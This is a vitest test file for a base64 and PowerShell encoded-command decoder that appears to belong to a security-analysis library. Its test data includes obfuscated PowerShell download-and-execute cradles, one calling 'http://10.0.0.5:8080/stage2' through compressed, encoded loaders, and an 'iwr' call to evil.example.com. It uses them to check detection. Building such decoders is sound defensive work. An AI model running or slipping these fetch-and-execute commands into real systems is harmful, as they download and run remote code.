import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanIndicators } from '../indicators/scan.js';
import { hasSharedData, readShared, readSharedRows, textColumn } from '../testing/shared-data.js';
import { decodePowerShell } from './powershell.js';
import { unpackBase64 } from './unpack.js';
import { unpackBase64Column } from './unpack-column.js';

const b64 = (value: string | Uint8Array): string => Buffer.from(value as string).toString('base64');
const utf16 = (value: string): string => Buffer.from(value, 'utf16le').toString('base64');
const only = (text: string, options = {}) => {
  const { records } = unpackBase64(text, options);
  expect(records).toHaveLength(1);
  return records[0]!;
};
const SENTENCE = 'the quick brown fox jumps over the lazy dog';

describe.skipIf(!hasSharedData)('the nested archives of the sample', () => {
  const text = hasSharedData ? readShared('misc/base64msg.txt') : '';

  it.each([{}, { parity: 'msticpy' }] as const)('are eight items, %o', (options) => {
    expect(unpackBase64(text, options).records).toHaveLength(8);
    const rows = unpackBase64Column([text, text], options);
    expect(rows).toHaveLength(16);
    expect(rows.map((row) => row.src_index)).toEqual([...Array(8).fill(0), ...Array(8).fill(1)]);
  });

  it('bear their member names and types', () => {
    const { records, text: decoded } = unpackBase64(text);
    const names = records.filter(({ layer }) => layer === 1).map((r) => `${r.file_type} ${r.file_name}`);
    expect(names).toEqual([
      'tar dllenc.txt',
      'tar txtenc.txt',
      'tar txtenc.txt.gz',
      'zip dllenc.txt',
      'zip txtenc.txt',
      'zip txtenc.txt.gz',
    ]);
    expect(decoded).toContain("name='[zip] Filename: txtenc.txt'");
    expect(records.find(({ layer, encoding_type }) => layer === 2 && encoding_type === 'utf-16')?.decoded_string).toBe(
      'text\r\nfile\r\n',
    );
  });
});

describe.skipIf(!hasSharedData)('the encoded command of the process sample', () => {
  it('reads as PowerShell runs it', () => {
    const rows = readSharedRows('sentinel/SecurityEvent_4688__processes_on_host_csv.ndjson');
    const found = unpackBase64Column(textColumn(rows, 'CommandLine'), { highConfidenceOnly: true });
    const scripts = found.filter((row) => row.decoded_string !== null);
    expect(scripts.map((row) => row.decoded_string)).toEqual(["$t = 'dir';\r\n& ('Invoke'+'-Expression') $t"]);
    // The command line that drops `TVqQAAMAAAA...` carries the beginning of a program.
    expect(found.map((row) => row.file_type)).toContain('exe');
  });
});

describe('base64 in a text', () => {
  it('is replaced by what it says', () => {
    const { text, layers } = unpackBase64(`a ${b64(SENTENCE)} b`);
    expect(text).toBe(`a <decoded type='string' name='[None]' index='1' depth='1'>${SENTENCE}</decoded> b`);
    expect(layers).toBe(1);
    const record = only(b64(SENTENCE));
    expect(record).toMatchObject({
      reference: '1.1',
      original_string: b64(SENTENCE),
      file_name: 'unknown',
      file_type: null,
      decoded_string: SENTENCE,
      encoding_type: 'utf-8',
      md5: '77add1d5f41223d5582fca736a5cb335',
      confidence: 'high',
    });
    expect(record.file_hashes.md5).toBe(record.md5);
    expect(record.printable_bytes.slice(0, 8)).toBe('74 68 65');
  });

  it('may lack its padding, be URL-safe, and stand at any place of a text', () => {
    const padded = b64(`${SENTENCE}!`);
    expect(padded.endsWith('=')).toBe(true);
    expect(only(padded.replace(/=+$/, '')).decoded_string).toBe(`${SENTENCE}!`);
    expect(only(`xyz ${padded.replace(/=+$/, '')}`).decoded_string).toBe(`${SENTENCE}!`);
    const marks = '???>>>~~~ what a question is that ???>>>';
    const safe = Buffer.from(marks).toString('base64url');
    expect(safe).toMatch(/[-_]/);
    expect(only(`token=${safe};`).decoded_string).toBe(marks);
    expect(unpackBase64(padded.replace(/=+$/, ''), { parity: 'msticpy' }).records).toHaveLength(0);
  });

  it('may stand over several lines', () => {
    const lines = b64(SENTENCE.repeat(4)).replace(/(.{40})/g, '$1\r\n');
    expect(only(`\n${lines}\n`).decoded_string).toBe(SENTENCE.repeat(4));
  });

  it('is found behind other base64 whatever length that has decoded', () => {
    const first = b64(SENTENCE.repeat(10));
    const second = b64(`second ${SENTENCE}`);
    const { records } = unpackBase64(`${first} ${'x'.repeat(5)} ${second} !`);
    expect(records.map((record) => record.decoded_string)).toEqual([SENTENCE.repeat(10), `second ${SENTENCE}`]);
  });

  it('is decoded layer by layer, also where the last fragment is noise', () => {
    const inner = b64(b64(SENTENCE));
    const { records, layers, text } = unpackBase64(`${inner} ${'z'.repeat(33)}`);
    expect(layers).toBe(2);
    expect(records.map(({ reference, layer }) => [reference, layer])).toEqual([
      ['1.1', 1],
      ['1.2.1', 2],
    ]);
    expect(text).toContain(SENTENCE);
  });

  it('is UTF-16LE where every other byte is zero; parity keeps the NULs', () => {
    const encoded = utf16('Write-Host "hello world"');
    expect(only(encoded)).toMatchObject({ decoded_string: 'Write-Host "hello world"', encoding_type: 'utf-16' });
    const original = only(encoded, { parity: 'msticpy' });
    expect(original.encoding_type).toBe('utf-8');
    expect(original.decoded_string).toContain('W\0r\0');
    expect(scanIndicators(only(utf16('iwr http://evil.example.com/a')).decoded_string!).map((i) => i.type)).toContain(
      'url',
    );
  });

  it.each([
    '/opt/microsoft/omsagent/ruby/bin/ruby',
    '/usr/lib/python3/distpackages/sitecustomize/ab',
    'ThisIsAVeryLongIdentifierWithoutAnyDigits',
    'd41d8cd98f00b204e9800998ecf8427e',
    'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
    'UsGthrCtrlFltPipeMssGthrPipe279',
    'AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x',
    'team/master/atomics/T1197/T1197',
  ])('%s is told from a path, a word or a hash', (text) => {
    const unpacked = unpackBase64(text);
    for (const { confidence } of unpacked.records) expect(confidence).toBe('low');
    expect(unpacked).toMatchObject({ text, layers: 0 });
    expect(unpackBase64(text, { highConfidenceOnly: true })).toEqual({ text, records: [], layers: 0 });
  });

  it('knows programs and documents by their first bytes', () => {
    expect(only(`x ${b64(Buffer.from(`MZ\u0090\0\u0003${'\0'.repeat(30)}`, 'latin1'))}`).file_type).toBe('exe');
    expect(only(b64(`%PDF-1.7\n${'\0\u0001'.repeat(30)}`)).file_type).toBe('pdf');
  });

  it('skips null cells', () => {
    expect(unpackBase64Column([null, undefined, '', b64(SENTENCE)]).map((row) => row.src_index)).toEqual([3]);
  });
});

describe('random bytes', () => {
  it('are mostly told from words and paths', () => {
    let state = 1;
    const next = () => {
      state = (Math.imul(state, 1103515245) + 12345) >>> 0;
      return state >>> 16;
    };
    let high = 0;
    for (let i = 0; i < 200; i++) {
      const bytes = Uint8Array.from({ length: 45 }, () => next() & 255);
      if (unpackBase64(b64(bytes)).records[0]?.confidence === 'high') high++;
    }
    expect(high).toBeGreaterThan(160);
  });
});

describe('archives', () => {
  it('that are damaged are plain bytes', () => {
    const broken = Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'), Buffer.alloc(60, 0xfe)]);
    expect(only(b64(broken))).toMatchObject({ file_type: 'zip', file_name: 'unknown', decoded_string: null });
    const gz = gzipSync(SENTENCE.repeat(3));
    gz.fill(0xff, 12);
    expect(only(b64(gz))).toMatchObject({ file_type: 'gz', decoded_string: null });
  });

  it('that unpack to much more than they are stay packed', () => {
    const bomb = gzipSync(Buffer.alloc(64 * 2 ** 20, 32), { level: 9 });
    const started = performance.now();
    expect(only(b64(bomb))).toMatchObject({ file_name: 'unknown', encoding_type: 'binary' });
    expect(performance.now() - started).toBeLessThan(3000);
  });

  it('in gzip, zlib and raw deflate streams are read', () => {
    for (const [bytes, type, name] of [
      [gzipSync(SENTENCE), 'gz', 'gzip_file'],
      [deflateSync(SENTENCE), 'zlib', 'deflate_stream'],
      [deflateRawSync(SENTENCE), 'deflate', 'deflate_stream'],
    ] as const)
      expect(only(b64(bytes))).toMatchObject({ file_type: type, file_name: name, decoded_string: SENTENCE });
  });
});

describe('PowerShell command lines', () => {
  it.each(['-e', '-ec', '-enc', '-EncodedCommand', '/enc', '-eNcOdEd', '\u2013enc'])(
    'hide a script behind %s',
    (flag) => {
      expect(decodePowerShell(`powershell.exe -nop ${flag} ${utf16('iex')}`)?.script).toBe('iex');
      expect(decodePowerShell(`powershell ${flag} "${utf16('whoami')}"`)?.script).toBe('whoami');
    },
  );

  it.each([
    'powershell -ep bypass -File x.ps1',
    'powershell -ExecutionPolicy Bypass -c dir',
    'grep -e pattern file',
    'cmd /e abcd',
  ])('hide nothing in %s', (line) => {
    expect(decodePowerShell(line)).toBeUndefined();
  });

  it('hide compressed scripts within scripts', () => {
    const payload = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5:8080/stage2')";
    for (const [kind, packed] of [
      ['DeflateStream', deflateRawSync(payload)],
      ['GzipStream', gzipSync(payload)],
    ] as const) {
      const outer = `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${b64(packed)}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.${kind}($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
      const decoded = decodePowerShell(`powershell -NoP -w hidden -enc ${utf16(outer)}`);
      expect(decoded).toMatchObject({ script: outer, innermost: payload, texts: [outer, payload], layers: 2 });
      expect(decoded?.full).toContain(payload);
    }
  });
});

describe('hostile text', () => {
  it.each(['A', 'A=', '-e ', '-enc A', '-', '_-', 'AAAA\n', 'a/b', '--e', 'QUFB'])('of a million times %j', (piece) => {
    const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
    const started = performance.now();
    unpackBase64(text);
    expect(performance.now() - started).toBeLessThan(4000);
  });

  it('decodes what was encoded, between any other text', () => {
    const words = fc.string({ unit: fc.constantFrom(...'abc xyz.,!?ABC 123'), minLength: 24, maxLength: 200 });
    const around = fc.string({ unit: fc.constantFrom(' ', '"', '(', ')', ':', '.'), maxLength: 5 });
    fc.assert(
      fc.property(words, around, around, (text, before, after) => {
        const { records } = unpackBase64(`${before}${b64(text)}${after}`);
        expect(records[0]?.decoded_string).toBe(text);
      }),
    );
  });
});
